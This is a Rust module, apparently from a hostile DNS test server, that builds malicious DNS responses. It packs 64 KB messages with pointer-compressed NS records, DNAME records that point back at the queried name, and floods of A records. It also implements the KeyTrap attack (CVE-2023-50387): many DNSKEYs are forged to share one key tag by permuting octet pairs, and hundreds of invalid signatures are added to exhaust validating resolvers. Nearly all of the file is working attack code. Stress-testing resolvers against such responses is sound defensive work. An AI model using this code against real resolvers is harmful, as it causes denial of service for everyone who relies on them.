//! Answers that cost the reader far more than their octets: thousands of records whose names are pointers (RFC 1035
//! section 4.1.4), and keys of one tag with signatures that do not hold (CVE-2023-50387). In: a question and how many
//! records. Out: one message of 64 KB at most.

use hickory_proto::{
    dnssec::{
        PublicKey, PublicKeyBuf,
        rdata::{DNSKEY, DNSSECRData, RRSIG},
    },
    op::{Message, Query},
    rr::{RData, Record},
    serialize::binary::BinEncodable,
};

/// Octets of a message over TCP.
const LARGEST: usize = 65_535;
/// The owner of every record: a pointer to the question's name.
const OWNER: [u8; 2] = [0xC0, 12];

/// NS records whose targets all point at one name of 255 octets.
pub(super) fn of_ns(request: &Message, query: &Query, count: u32) -> Vec<u8> {
    let mut target = Vec::new();
    for length in [63u8, 63, 63, 61] {
        target.push(length);
        target.extend(std::iter::repeat_n(b'n', usize::from(length)));
    }
    target.push(0);
    let head = question(query);
    // The first record holds the name.
    let place = 12 + head.len() + 12;
    let pointer = (0xC000 | place as u16).to_be_bytes();
    message(request, &head, 2, count, |n| if n == 0 { target.clone() } else { pointer.to_vec() })
}

/// A records.
pub(super) fn of_addresses(request: &Message, query: &Query, count: u32) -> Vec<u8> {
    message(request, &question(query), 1, count, |n| {
        let [_, _, c, d] = n.to_be_bytes();
        vec![192, 0, c, d]
    })
}

/// DNAME records at the parent of the question's name, each with the name itself as its target.
pub(super) fn of_dnames(request: &Message, query: &Query, count: u32) -> Vec<u8> {
    let head = question(query);
    let parent = 12 + 1 + u16::from(head.first().copied().unwrap_or(0));
    let owner = (0xC000 | parent).to_be_bytes();
    message_of(request, &head, owner, 39, count, |_| OWNER.to_vec())
}

/// Signatures of one set.
const SIGNATURES: usize = 500;

/// Puts `keys` keys of the same tags in place of a zone's keys, and signatures that do not hold in place of the right
/// ones.
pub(super) fn collide(response: &mut Message, keys: u32) {
    for section in [&mut response.answers, &mut response.authorities] {
        let mut room = LARGEST - 2_000;
        let mut out = Vec::new();
        for record in std::mem::take(section) {
            match &record.data {
                RData::DNSSEC(DNSSECRData::DNSKEY(key)) => {
                    // Two keys are real; each gets its half.
                    for n in 0..keys as usize / 2 {
                        push(&mut out, &mut room, &record, DNSSECRData::DNSKEY(twin(key, n)));
                    }
                }
                RData::DNSSEC(DNSSECRData::RRSIG(rrsig)) => {
                    for n in 1..=SIGNATURES {
                        let forged = RRSIG::from_sig(rrsig.input().clone(), permuted(rrsig.sig(), n));
                        push(&mut out, &mut room, &record, DNSSECRData::RRSIG(forged));
                    }
                }
                _ => {
                    room = room.saturating_sub(320);
                    out.push(record);
                }
            }
        }
        *section = out;
    }
}

fn push(out: &mut Vec<Record>, room: &mut usize, like: &Record, data: DNSSECRData) {
    let mut record = like.clone();
    record.data = RData::DNSSEC(data);
    let size = record.to_bytes().map_or(LARGEST, |octets| octets.len());
    if size <= *room {
        *room -= size;
        out.push(record);
    }
}

/// Another key of the same tag.
fn twin(key: &DNSKEY, n: usize) -> DNSKEY {
    let real = key.public_key();
    DNSKEY::with_flags(key.flags(), PublicKeyBuf::new(permuted(real.public_bytes(), n), real.algorithm()))
}

/// The same pairs of octets in another order: the tag of a key is a sum over them (RFC 4034 appendix B). 0 changes
/// nothing.
fn permuted(octets: &[u8], n: usize) -> Vec<u8> {
    let mut pairs: Vec<&[u8]> = octets.chunks(2).collect();
    let whole = octets.len() / 2;
    let mut n = n;
    // The digits of `n` in the factorial number system: each `n` is another order.
    for place in 2..=whole {
        pairs.swap(place - 1, place - 1 - n % place);
        n /= place;
    }
    pairs.concat()
}

fn question(query: &Query) -> Vec<u8> {
    let mut octets = query.name().to_bytes().unwrap_or_else(|_| vec![0]);
    octets.extend(u16::from(query.query_type()).to_be_bytes());
    octets.extend(u16::from(query.query_class()).to_be_bytes());
    octets
}

fn message(
    request: &Message,
    question: &[u8],
    rtype: u16,
    count: u32,
    rdata: impl Fn(u32) -> Vec<u8>,
) -> Vec<u8> {
    message_of(request, question, OWNER, rtype, count, rdata)
}

fn message_of(
    request: &Message,
    question: &[u8],
    owner: [u8; 2],
    rtype: u16,
    count: u32,
    rdata: impl Fn(u32) -> Vec<u8>,
) -> Vec<u8> {
    let mut records = Vec::new();
    let mut written = 0u16;
    for n in 0..count {
        let data = rdata(n);
        if 12 + question.len() + records.len() + 12 + data.len() > LARGEST {
            break;
        }
        records.extend(owner);
        records.extend(rtype.to_be_bytes());
        records.extend([0, 1, 0, 0, 1, 44]);
        records.extend((data.len() as u16).to_be_bytes());
        records.extend(data);
        written += 1;
    }
    let mut out = request.metadata.id.to_be_bytes().to_vec();
    out.extend([0x84, 0, 0, 1]);
    out.extend(written.to_be_bytes());
    out.extend([0; 4]);
    out.extend(question);
    out.extend(records);
    out
}
